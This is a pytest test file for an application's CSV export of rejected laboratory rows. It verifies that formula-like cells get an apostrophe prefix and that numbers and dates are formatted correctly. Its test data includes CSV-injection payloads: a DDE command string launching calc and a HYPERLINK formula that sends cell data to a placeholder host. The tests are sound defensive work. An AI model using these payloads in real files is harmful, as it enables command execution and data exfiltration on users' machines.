"""The file of refused rows: whatever stood in the laboratory's file, no spreadsheet computes anything in it."""

from __future__ import annotations

import csv
import io

import pytest

from hsct_desktop.domain.lab_file import LabMapping, Places
from hsct_desktop.exchange.lab_file import rejected_csv
from hsct_desktop.exchange.table_file import Stored, Table


def written(*cells: str, reason: str = "why") -> list[str]:
    """The row that comes out of the cells of a row."""
    table = Table([[f"h{n}" for n in range(len(cells))], list(cells)])
    content = rejected_csv(table, LabMapping("x", ()), Places({}, ()), {2: [(0, reason)]}, "Reason")
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=";"))[1]


@pytest.mark.parametrize(
    "text",
    ["=cmd|'/C calc'!A0", "=1+1", "@SUM(1)", "+1+1", "-1+A1", '=HYPERLINK("http://x/?"&A1)', "\t=1", "\n=1", "  =1",
     "＝1+1", "-", "+"],
)  # fmt: skip
@pytest.mark.parametrize("kind", [str, Stored])
def test_a_formula_gets_an_apostrophe_also_where_the_file_calls_it_a_number(text: str, kind: type[str]) -> None:
    assert written(kind(text), "x") == [f"'{text}", "x", "why"]
    assert written("x", reason=text)[-1] == f"'{text}"


@pytest.mark.parametrize(
    ("cell", "shown"),
    [
        (Stored("9.1"), "9,1"), (Stored("-0.5"), "-0,5"), (Stored("45%"), "45%"), (Stored("1E+400"), "1E+400"),
        (Stored("2026-11-20"), "20/11/2026"), (Stored("2026-11-20 08:30"), "20/11/2026 08:30"), ("-5,2", "-5,2"),
        ("2026-11-20", "2026-11-20"), ("a=b", "a=b"),
    ],
)  # fmt: skip
def test_numbers_and_days_stand_as_the_mapping_declares_them(cell: str, shown: str) -> None:
    assert written(cell, "x")[0] == shown
